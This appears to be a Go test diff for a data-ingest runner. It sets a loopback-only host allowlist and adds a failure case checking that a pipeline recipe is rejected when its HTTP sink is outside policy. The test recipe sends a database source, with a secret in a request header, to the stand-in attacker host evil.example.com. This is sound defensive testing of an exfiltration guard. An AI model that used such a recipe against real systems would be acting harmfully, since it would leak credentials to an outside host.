@@ -21,6 +21,9 @@ func ingestRunnerEnv(secretsDir string) map[string]string {
 		"OUTPOST_SECRETS_ENV_PREFIXES": "E2E_",
 		"OUTPOST_SECRETS_DIR":          secretsDir,
 		"OUTPOST_HEARTBEAT_INTERVAL":   "1s",
+		// The test databases listen on loopback; every name may resolve.
+		"OUTPOST_POLICY_ALLOWED_HOSTS": "127.0.0.1,localhost,[::1]",
+		"OUTPOST_POLICY_SECRETS":       "*=*",
 	}
 }
 
@@ -194,6 +197,9 @@ func TestIngestFailures(t *testing.T) {
 			`source unreachable: postgres at 127.0.0.1:1 as "u"`},
 		{"unknown secret name", sqlRecipe("postgres", pg.HostPort(), pg.Database, pg.User, "${NO_SUCH_SECRET}", ""),
 			`source.config.password: unknown secret "NO_SUCH_SECRET"`},
+		{"sink host outside the runner's policy", fmt.Sprintf("source: {type: postgres, config: {host_port: '%s', database: '%s', password: '${WRONG_PG_PASSWORD}'}}\n"+
+			"sink: {type: http, config: {url: 'https://evil.example.com/in', headers: {X-Key: '${UNREACH_PASSWORD}'}}}\n", pg.HostPort(), pg.Database),
+			`policy: sink http host evil.example.com:443 is not in policy.allowed_hosts`},
 	}
 	ids := make([]string, len(tests))
 	for i, tt := range tests {
